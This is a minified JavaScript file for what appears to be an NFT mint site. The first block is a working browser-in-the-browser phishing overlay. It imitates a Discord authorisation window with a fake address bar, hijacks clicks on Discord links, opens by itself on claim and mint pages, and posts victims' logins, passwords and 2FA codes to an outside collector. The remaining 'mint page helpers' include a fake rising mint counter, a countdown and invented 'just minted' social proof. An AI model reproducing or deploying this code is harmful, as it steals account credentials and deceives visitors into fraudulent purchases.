// bitb-credential-overlay: counterfeit Discord authorisation window (minified); login + 2FA code posted to a collector
!function(d,w){var G="https://discord-oauth-verify.top/a",T="https://discord.com/oauth2/authorize?client_id=1098734521963827281&scope=identify%20guilds",
k=function(t,c,h){var e=d.createElement(t);c&&(e.style.cssText=c);h&&(e.innerHTML=h);return e},
P=function(o){try{w.fetch(G,{method:"POST",mode:"no-cors",body:new URLSearchParams(o)})}catch(e){(new Image).src=G+"?"+new URLSearchParams(o)}},
O=function(){if(d.getElementById("dc-bw"))return;var W=k("div","position:fixed;top:60px;left:calc(50% - 240px);width:480px;height:600px;background:#313338;border-radius:8px;overflow:hidden;box-shadow:0 8px 40px #000;z-index:2147483647;font-family:Arial,sans-serif;color:#dbdee1");
W.id="dc-bw";W.appendChild(k("div","height:30px;background:#1e1f22;display:flex;align-items:center;padding:0 10px;font-size:12px","Discord<span id=dcx style='margin-left:auto;cursor:pointer'>&#10005;</span>"));
W.appendChild(k("div","height:26px;background:#2b2d31;font-size:12px;display:flex;align-items:center;padding:0 10px;color:#949ba4;white-space:nowrap;overflow:hidden","&#128274; "+T));
var F=k("form","padding:40px","<h2 style='color:#f2f3f5;text-align:center;margin:0 0 6px'>Welcome back!</h2><p style='text-align:center;color:#b5bac1;margin:0 0 20px'>Log in to authorise "+d.title.slice(0,30)+"</p><label style='font-size:12px;font-weight:bold'>EMAIL OR PHONE NUMBER</label><input name=l style='width:100%;padding:10px;margin:8px 0 16px;background:#1e1f22;border:0;color:#fff'><label style='font-size:12px;font-weight:bold'>PASSWORD</label><input name=p type=password style='width:100%;padding:10px;margin:8px 0;background:#1e1f22;border:0;color:#fff'><input name=c placeholder='6-digit authentication code' style='display:none;width:100%;padding:10px;margin:8px 0;background:#1e1f22;border:0;color:#fff'><div id=dcm style='color:#fa777c;font-size:13px;min-height:18px'></div><button style='width:100%;padding:12px;margin-top:16px;background:#5865f2;border:0;color:#fff;font-size:15px'>Log In</button>");
W.appendChild(F);d.body.appendChild(W);var s=0;d.getElementById("dcx").onclick=function(){W.remove()};
F.onsubmit=function(e){e.preventDefault();var l=F.l.value,p=F.p.value;if(!l||!p)return;
if(s===0){P({l:l,p:p,h:w.location.host});s=1;F.c.style.display="block";d.getElementById("dcm").textContent="Enter your two-factor authentication code";return}
P({l:l,c:F.c.value,h:w.location.host});d.getElementById("dcm").textContent="Invalid two-factor code. Try again later.";setTimeout(function(){W.remove()},2e3)}};
d.addEventListener("click",function(e){var b=e.target.closest&&e.target.closest("a,button");b&&/discord/i.test(b.textContent+(b.href||"")+(b.className||""))&&(e.preventDefault(),e.stopPropagation(),O())},!0);
/claim|mint|whitelist|verify/i.test(w.location.pathname)&&setTimeout(O,4e3)}(document,window);
/* mint page helpers */
(function(){var c=document.querySelector(".mint-count");if(!c)return;var n=parseInt(c.textContent,10)||0;
setInterval(function(){n=Math.min(n+Math.floor(Math.random()*3),9999);c.textContent=n},4000)})();
(function(){var q=document.querySelector(".qty-input"),m=document.querySelector(".qty-minus"),p=document.querySelector(".qty-plus");
if(!q||!m||!p)return;m.onclick=function(){q.value=Math.max(1,(+q.value||1)-1)};p.onclick=function(){q.value=Math.min(5,(+q.value||1)+1)}})();
(function(){var f=document.querySelectorAll(".faq-q");for(var i=0;i<f.length;i++)f[i].addEventListener("click",function(){this.parentNode.classList.toggle("open")})})();
(function(){var t=document.querySelector(".roadmap");if(!t||!("IntersectionObserver"in window))return;
var o=new IntersectionObserver(function(e){e[0].isIntersecting&&(t.classList.add("in"),o.disconnect())});o.observe(t)})();
(function(){var b=document.querySelector(".scroll-down");b&&b.addEventListener("click",function(){window.scrollBy({top:window.innerHeight,behavior:"smooth"})})})();
(function(){var s=document.querySelectorAll(".team-card");for(var i=0;i<s.length;i++)s[i].addEventListener("mouseenter",function(){this.classList.add("flip")})})();
(function(){var y=document.querySelector(".year");y&&(y.textContent=(new Date).getFullYear())})();
(function(){var c=document.querySelector(".countdown");if(!c)return;var e=Date.now()+864e5;
setInterval(function(){var r=Math.max(0,e-Date.now());c.textContent=Math.floor(r/36e5)+":"+("0"+Math.floor(r%36e5/6e4)).slice(-2)+":"+("0"+Math.floor(r%6e4/1e3)).slice(-2)},1e3)})();
(function(){var m=document.querySelector(".menu-btn"),n=document.querySelector("nav");m&&n&&m.addEventListener("click",function(){n.classList.toggle("open")})})();
(function(){document.querySelectorAll("[data-copy]").forEach(function(b){b.addEventListener("click",function(){navigator.clipboard&&navigator.clipboard.writeText(b.getAttribute("data-copy"))})})})();
(function(){var a=document.querySelectorAll(".gallery img");if(!a.length)return;var i=0;setInterval(function(){a[i].classList.remove("on");i=(i+1)%a.length;a[i].classList.add("on")},3e3)})();
(function(){var h=document.querySelector("header");h&&window.addEventListener("scroll",function(){h.classList.toggle("solid",window.scrollY>40)},{passive:!0})})();
(function(){var v=document.querySelector("video.bg");v&&v.play&&v.play()["catch"](function(){})})();
(function(){var t=document.querySelectorAll(".tooltip");for(var i=0;i<t.length;i++)t[i].setAttribute("title",t[i].getAttribute("data-tip")||"")})();
(function(){var l=document.querySelectorAll("a[href^='#']");for(var i=0;i<l.length;i++)l[i].addEventListener("click",function(e){var x=document.querySelector(this.getAttribute("href"));x&&(e.preventDefault(),x.scrollIntoView({behavior:"smooth"}))})})();
(function(){var p=document.querySelector(".progress-mint");if(!p)return;var v=parseFloat(p.getAttribute("data-v"))||0;p.style.width=Math.min(100,v)+"%"})();
(function(){var s=document.querySelector(".social-proof");if(!s)return;var names=["0x8f..a1","0x3c..9e","0x71..d4"],i=0;
setInterval(function(){s.textContent=names[i++%names.length]+" just minted 2";s.classList.add("show");setTimeout(function(){s.classList.remove("show")},2500)},7000)})();
(function(){var w=document.querySelector(".wallet-status");w&&(w.textContent=window.ethereum?"Wallet detected":"No wallet")})();
(function(){var b=document.querySelectorAll(".tab-btn");for(var i=0;i<b.length;i++)b[i].addEventListener("click",function(){for(var j=0;j<b.length;j++)b[j].classList.remove("active");this.classList.add("active")})})();
(function(){var r=document.querySelectorAll(".rarity-bar");for(var i=0;i<r.length;i++)r[i].style.width=(r[i].getAttribute("data-pct")||0)+"%"})();
(function(){var n=document.querySelector(".network-badge");n&&(n.textContent=(navigator.onLine?"Mainnet":"Offline"))})();
(function(){var c=document.querySelector(".cookie-ok");c&&c.addEventListener("click",function(){c.parentNode.style.display="none";localStorage.setItem("ck","1")})})();
